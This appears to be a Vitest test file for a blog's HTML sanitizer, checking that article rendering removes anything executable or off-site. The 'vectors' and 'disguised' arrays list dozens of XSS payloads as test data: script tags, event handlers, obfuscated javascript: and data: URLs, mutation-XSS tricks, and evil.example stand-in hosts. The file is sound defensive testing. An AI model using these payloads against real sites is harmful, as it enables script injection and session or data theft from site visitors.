// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { blogElements } from "#shared/blog/blog-markup.ts";
import { renderArticleBody } from "./article-body.ts";
import { cleanArticle } from "./article-html.ts";

const origins = { siteUrl: "https://site.example", supabaseUrl: null };
/** What rendering adds to the elements of posts. */
const elements = new Set([...blogElements, "div", "picture", "source"]);
const attributes = new Set(
  (
    "href title rel src alt width height start colspan rowspan scope id class tabindex role aria-label loading " +
    "decoding referrerpolicy srcset sizes type"
  ).split(" "),
);
const addresses =
  /^(?:https?:|mailto:|tel:|\/(?![/\\])|[#?]|[\w.-]+(?:[/?#]|$)|data:image\/(?:png|jpe?g|gif|webp|avif);base64,)/i;

/** What a browser finds in it that could run or lead elsewhere unseen. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  const page = new DOMParser().parseFromString(`<!doctype html><body><main>${html}</main>`, "text/html");
  const main = page.querySelector("main");
  if (main === null || page.body.children.length !== 1) found.push("the article ends the page's own elements");
  for (const element of page.querySelectorAll("main *")) {
    const name = element.localName;
    if (!elements.has(name) || element.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(`<${name}>`);
    for (const { name: attribute, value } of element.attributes) {
      if (!attributes.has(attribute)) found.push(`${name} ${attribute}`);
      if ((attribute === "href" || attribute === "src") && !isInert(value)) found.push(`${attribute}=${value}`);
    }
  }
  return found;
}

function isInert(address: string): boolean {
  // Browsers ignore tabs, line ends and leading blanks.
  return addresses.test(address.replaceAll(/[\t\n\r]/g, "").trim());
}

/** Active as written. */
const vectors = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script><!--</script><img src=x onerror=alert(1)>-->",
  "<img src=x onerror=alert(1)>",
  '<img src="/a.png" onload=alert(1) style="position:fixed" srcset="https://evil.example/a 1x">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="//evil.example/a.png">',
  '<img src="/\\evil.example/a.png">',
  '<img src="\\\\evil.example\\a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://site.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/ok" onclick="alert(1)" style="x" target="_blank" ping="https://evil.example" id="main">x</a>',
  '<a href="/ok"onmouseover="alert(1)">x</a>',
  '<a/href="javascript:alert(1)"/onclick=alert(1)>x</a>',
  "<iframe src=https://evil.example></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<iframe><img src=x onerror=alert(1)>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<style><img src=x onerror=alert(1)></style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=href values="javascript:alert(1)" /></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
  "<template><img src=x onerror=alert(1)></template>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
  "<select><option><img src=x onerror=alert(1)></option></select>",
  "<video poster=javascript:alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p style=background:url(javascript:alert(1)) onclick=alert(1)>x</p>",
  '<table background="javascript:alert(1)" onclick=alert(1)><tr><td style="x">1</td></tr></table>',
  '<h2>x" onclick="alert(1)</h2><h2><img src=x onerror=alert(1)>Fees</h2>',
  '<h2 id="x" onclick=alert(1)>&lt;img src=x onerror=alert(1)&gt;</h2>',
  "<<script>alert(1)//<</script>",
  "<p><!-- --!><img src=x onerror=alert(1)> --></p>",
  "<x-element is=script onclick=alert(1)>x</x-element><slot onslotchange=alert(1)>",
  "</main></div></body><script>alert(1)</script>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
];
/** Active only after a wrong repair. */
const disguised = [
  '<img src="/a.png" alt="x&quot; onerror=&quot;alert(1)">',
  '<img src="/a.png?&quot;onerror=&quot;alert(1)">',
  "<img src='/a.png\" onerror=\"alert(1)'>",
  '<table><caption>x" onfocus="alert(1)" autofocus="</caption><tr><td>1</td></tr></table>',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "<p title='<script>alert(1)</script>'>x</p>",
  '<img src="/a.png" width="1&quot; onerror=&quot;alert(1)" height="1">',
];

describe("of markup that acts, nothing is left", () => {
  it.each([...vectors, ...disguised])("%s", (vector) => {
    expect(activeParts(renderArticleBody(vector, origins).html)).toEqual([]);
    for (const around of [
      `<ul><li>${vector}</li></ul>`,
      `<table><tr><td>${vector}</td></tr></table>`,
      `<h2>${vector}`,
    ]) {
      expect(activeParts(renderArticleBody(around, origins).html)).toEqual([]);
    }
    const clean = cleanArticle(vector);
    expect(cleanArticle(clean)).toBe(clean);
  });
});

it("sees what acts where nothing takes it out", () => {
  expect(vectors.filter((vector) => activeParts(vector).length === 0)).toEqual([]);
});

it("leaves an article as its writer made it", () => {
  const article =
    '<h2>Fees</h2><p>See <a href="https://gov.example/fees?a=1&amp;b=2" title="Fees">the <strong>list</strong></a>, ' +
    '<a href="/blogs/funds#costs">ours</a>, <a href="mailto:a@example.com">mail</a>.<br />x<sup>2</sup></p>' +
    '<ol start="3"><li><p>One</p></li></ol><blockquote><p>Said</p></blockquote><hr />' +
    '<table><tbody><tr><th colspan="2" scope="col">a</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>' +
    '<pre><code>if (a &lt; b &amp;&amp; c) {}</code></pre><figure><img src="/a.png" alt="" width="10" height="20" />' +
    "<figcaption>A</figcaption></figure>";
  expect(cleanArticle(article)).toBe(article.replace('title="Fees">', 'title="Fees" rel="noopener">'));
});
